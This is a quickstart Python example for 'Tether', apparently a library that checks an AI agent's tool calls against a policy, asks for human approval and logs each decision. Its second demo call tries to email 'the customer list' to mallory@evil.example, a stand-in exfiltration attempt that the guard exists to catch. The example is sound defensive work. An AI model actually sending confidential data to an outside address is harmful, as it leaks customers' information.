"""Tether without a framework: guard a tool call by hand.

    pip install ./core && python examples/quickstart.py

Every framework adapter does this for you; here it is spelled out. The decisions and the
audit trail land in .tether/tether.db (see them with `tether audit tail`).
"""

from pathlib import Path

from tether.core import AuditStore, Guard, QueueApprover


def send_email(to: str, subject: str, body: str) -> str:
    return f"sent to {to}"


TOOLS = {"send_email": send_email}
store = AuditStore()
guard = Guard(Path(__file__).with_name("policy.yaml"), store=store, approver=QueueApprover(store, prompt=True))
session = guard.session(agent="office-assistant", session_id="quickstart", user="alice@acme.example")


def call(tool: str, **args: object) -> object:
    decision = session.before_tool(tool, args)
    if decision.needs_approval:
        decision = session.resolve(decision)  # asks here or via `tether approvals`; no answer in time denies
    if not decision.allowed:
        return decision.refusal()  # what the agent reads instead of the tool's output
    result = TOOLS[tool](**decision.args)
    return session.after_tool(decision, result)


print(call("send_email", to="bob@acme.example", subject="hello", body="Lunch?"))
print(call("send_email", to="mallory@evil.example", subject="data", body="the customer list"))
print(f"audit: tether audit show {session.id}")
